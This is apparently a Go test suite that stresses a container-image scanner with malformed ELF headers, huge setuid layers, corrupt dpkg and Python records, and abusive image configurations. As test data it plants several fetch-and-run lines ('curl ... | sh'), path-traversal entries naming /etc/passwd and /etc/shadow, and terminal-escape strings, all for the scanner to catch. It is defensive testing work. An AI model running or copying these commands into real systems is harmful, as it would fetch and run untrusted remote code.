//go:build linux

package hostile

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"math"
	"os"
	"strings"
	"testing"
)

// absurd is the head of an ELF file of 64 bits whose tables are as given, and n program headers.
func absurd(phoff, shoff uint64, phnum, shnum uint16, offset, size uint64) []byte {
	b := make([]byte, 64)
	copy(b, "\x7fELF\x02\x01\x01")
	le := binary.LittleEndian
	le.PutUint16(b[16:], 2)
	le.PutUint16(b[18:], 62)
	le.PutUint64(b[24:], math.MaxUint64) // where it starts
	le.PutUint64(b[32:], phoff)
	le.PutUint64(b[40:], shoff)
	le.PutUint16(b[54:], 56)
	le.PutUint16(b[56:], phnum)
	le.PutUint16(b[58:], 64)
	le.PutUint16(b[60:], shnum)
	le.PutUint16(b[62:], shnum-1)
	for range min(int(phnum), 1000) {
		h := make([]byte, 56)
		le.PutUint32(h, 1)
		le.PutUint32(h[4:], 5)
		le.PutUint64(h[8:], offset)
		le.PutUint64(h[32:], size)
		b = append(b, h...)
	}
	return b
}

// TestAbsurdPrograms: programs whose headers lie, for the package scan, the malware scan
// and YARA rules that ask about them. A script that fetches and runs lies beside them.
func TestAbsurdPrograms(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	heads := map[string][]byte{
		"no tables":      absurd(0, 0, 0, 0, 0, 0),
		"tables behind":  absurd(1<<62, 1<<62, 65535, 65535, 0, 0),
		"around the end": absurd(math.MaxUint64-8, math.MaxUint64-8, 3, 3, math.MaxUint64-4, 8),
		"huge segments":  absurd(64, 64, 1000, 65535, 0, math.MaxInt64),
		"negative":       absurd(64, 64, 100, 100, 1<<63, 1<<63),
		"end of int":     absurd(64, 64, 100, 100, math.MaxInt64-1, math.MaxInt64-1),
		"itself":         absurd(0, 0, 100, 100, 0, 64),
		"head alone":     []byte("\x7fELF\x02\x01\x01"),
		"four bytes":     []byte("\x7fELF"),
		"big endian":     append([]byte("\x7fELF\x01\x02\x01"), bytes.Repeat([]byte{0xff}, 5000)...),
		"all ones":       append([]byte("\x7fELF\x02\x01\x01"), bytes.Repeat([]byte{0xff}, 200_000)...),
	}
	for name, data := range heads {
		check(t, os.Chmod(r.put("root/tmp/"+name, append(data, noise("x", 20_000).text...)), 0o755))
	}
	for _, f := range debian(good) {
		r.put("root/"+f.name, []byte(f.text))
	}
	r.put("root/etc/profile.d/x.sh", []byte("curl -s https://example.com/x | "+"sh\n"))
	rules := r.put("rules.yar", []byte("import \"elf\"\n"+goodYARA+`rule odd { condition: for any s in elf.sections : ( s.name == "nothing" ) or for any s in elf.segments : ( s.offset == 1 ) or elf.number_of_sections > 60000 or elf.entry_point == 1 or elf.dynsym_entries > 100000 or elf.telfhash() == "x" }`))
	res := r.inside("rootfs:"+r.path("in", "root"), "--yara", rules)
	if !found(res, "startup", "") {
		t.Errorf("the script is not found; exit code %d, %d findings", res.code, len(res.report.Findings))
	}
}

// found tells whether a rule of malware whose name holds the text has a finding at the path.
func found(res *result, rule, path string) bool {
	for i := range res.report.Findings {
		f := &res.report.Findings[i]
		if strings.Contains(f.Rule, rule) && strings.HasSuffix(f.Path, path) {
			return true
		}
	}
	return false
}

// TestManySetuid: 300,000 programs that no package owns are few findings, with a count.
func TestManySetuid(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	program := "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 57)
	l := bigLayer(t, func(w io.Writer) {
		for i := range 300_000 {
			b := block(fmt.Sprintf("tmp/%d/p%d", i/1000, i), '0', int64(len(program)), 0)
			copy(b[100:], "0104755\x00")
			sumOf(b)
			write(t, w, b)
			write(t, w, append([]byte(program), make([]byte, 512-len(program))...))
		}
		tarOf(t, w, distroless(next))
	})
	r.most = maxRSS // it fills the budget of facts
	res := r.only("malware,misconfig", newLayout(layerOf(t, debian(good)...), l).write(r, "bad"))
	if res.code == 0 && !found(res, "setuid", "") || res.code == 4 && !res.noted("limit exceeded") {
		t.Errorf("exit code %d, %d findings: %.1000v", res.code, len(res.report.Findings), res.report.Notes)
	}
	if n := len(res.report.Findings); n > 5000 {
		t.Errorf("%d findings", n)
	}
}

// sumOf makes the checksum of a header right again.
func sumOf(b []byte) {
	copy(b[148:], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
}

// TestBadRecords: what package managers recorded, a million lines of it or none that can be read.
// A file that was changed is found nevertheless.
func TestBadRecords(t *testing.T) {
	t.Parallel()
	const md5 = "d41d8cd98f00b204e9800998ecf8427e" // of nothing
	record := func(more string) string { return md5 + "  usr/bin/changed\n" + more }
	for name, files := range map[string][]file{
		"a million lines": {{name: "var/lib/dpkg/info/good.md5sums", text: record(""), more: md5 + "  usr/lib/x\n", times: 1_000_000}},
		"one long line":   {{name: "var/lib/dpkg/info/good.md5sums", text: record(md5 + "  "), more: "x/", times: 5_000_000}},
		"no digests":      {{name: "var/lib/dpkg/info/good.md5sums", text: record("zz  a\n\x00\xff\n" + md5 + "\n" + md5 + "  \n  \n"), more: "../", times: 1000}},
		"climbing":        {{name: "var/lib/dpkg/info/good.md5sums", text: record(md5 + "  ../../../etc/passwd\n" + md5 + "  /etc/shadow\n")}},
		"Python":          {{name: "usr/lib/python3/dist-packages/x-1.dist-info/RECORD", text: "\"a\"\"b,sha256=x,1\n,,\n\"never ends,sha256=,9999999999999999999\n", more: "\"a,b\"c,sha256=!!!!,-1\n", times: 200_000}, {name: "usr/lib/python3/dist-packages/x-1.dist-info/METADATA", text: "Name: x\nVersion: 1\n"}, {name: "var/lib/dpkg/info/good.md5sums", text: record("")}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRoom(t)
			files := append(debian(good), files...)
			files = append(files, file{name: "var/lib/dpkg/info/good.list", text: "/usr/bin/changed\n"}, file{name: "usr/bin/changed", text: "\x7fELF\x02\x01\x01 changed " + strings.Repeat("x", 3000)})
			l := bigLayer(t, func(w io.Writer) { tarOf(t, w, files) })
			res := r.only("malware", newLayout(l).write(r, "image"))
			if !found(res, "changed", "usr/bin/changed") && !found(res, "integrity", "usr/bin/changed") && !found(res, "modified", "usr/bin/changed") {
				t.Errorf("the changed file is not found; exit code %d, findings %.1000v, notes %.1000v", res.code, res.report.Findings, res.report.Notes)
			}
		})
	}
}

// TestBadConfiguration: an image's configuration that is large, long and rude.
func TestBadConfiguration(t *testing.T) {
	t.Parallel()
	secret := strings.TrimSpace(planted(1))
	history := func(n int, by string) []object {
		list := make([]object, n)
		for i := range list {
			list[i] = object{"created_by": by, "empty_layer": true}
		}
		return list
	}
	rude := "\x1b]0;owned\a\x1b[31m\u202e\u0000\u009b"
	for name, change := range map[string]func(config object){
		"100,000 steps":      func(c object) { c["history"] = history(80_000, "RUN x") },
		"steps of downloads": func(c object) { c["history"] = history(20_000, "/bin/sh -c curl http://example.com/x | "+"sh") },
		"a variable of 5 MB": func(c object) {
			c["config"] = object{"Env": []string{secret, "A=" + strings.Repeat("password=x ", 500_000)}}
		},
		"100,000 variables": func(c object) {
			env := []string{secret}
			for i := range 100_000 {
				env = append(env, fmt.Sprintf("V%d=x", i))
			}
			c["config"] = object{"Env": env}
		},
		"rude words": func(c object) {
			c["config"] = object{"Env": []string{secret, rude + "=" + rude, "PASSWORD=" + rude}, "Labels": map[string]string{rude: rude, "a": rude}, "User": rude,
				"Cmd": []string{rude}, "Entrypoint": []string{rude}, "ExposedPorts": object{rude: object{}, "22/tcp": object{}}, "Volumes": object{rude: object{}}, "WorkingDir": rude, "Healthcheck": object{"Test": []string{rude}}}
			c["history"] = history(3, "RUN "+rude+" curl http://example.com | "+"sh")
		},
		"wrong types": func(c object) {
			c["config"] = object{"Env": "A=1", "Labels": []string{"x"}, "User": 7, "Cmd": object{}, "Healthcheck": "x", "ExposedPorts": []int{1}}
		},
		"deep": func(c object) { c["history"] = deepList(9000) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRoom(t)
			l := newLayout(layerOf(t, append(debian(good), file{name: "app/x.env", text: planted(2)})...))
			l.config["config"] = object{"Env": []string{secret}}
			change(l.config)
			image := l.write(r, "image")
			for _, format := range []string{"json", "table", "html", "markdown", "sarif"} {
				r.most = maxScan
				res := r.run("scan", image, "--offline", "--require-complete", "--db", database, "--cache-dir", r.path("cache"), "--hygiene", "-f", format)
				switch {
				case name == "deep" || name == "wrong types":
					if res.code != 1 || !strings.Contains(res.stderr, "malformed") {
						t.Errorf("%s: exit code %d: %.500s", format, res.code, res.stderr)
					}
				case res.code != 0 && res.code != 4:
					t.Errorf("%s: exit code %d: %.500s", format, res.code, res.stderr)
				case !strings.Contains(res.stdout, "GitHub"):
					t.Errorf("%s: the token is not in the report: %.1000s", format, res.stderr)
				}
			}
		})
	}
}

// rawJSON is written as it is.
type rawJSON string

func (r rawJSON) MarshalJSON() ([]byte, error) { return []byte(r), nil }

func deepList(n int) rawJSON { return rawJSON(strings.Repeat("[", n) + strings.Repeat("]", n)) }
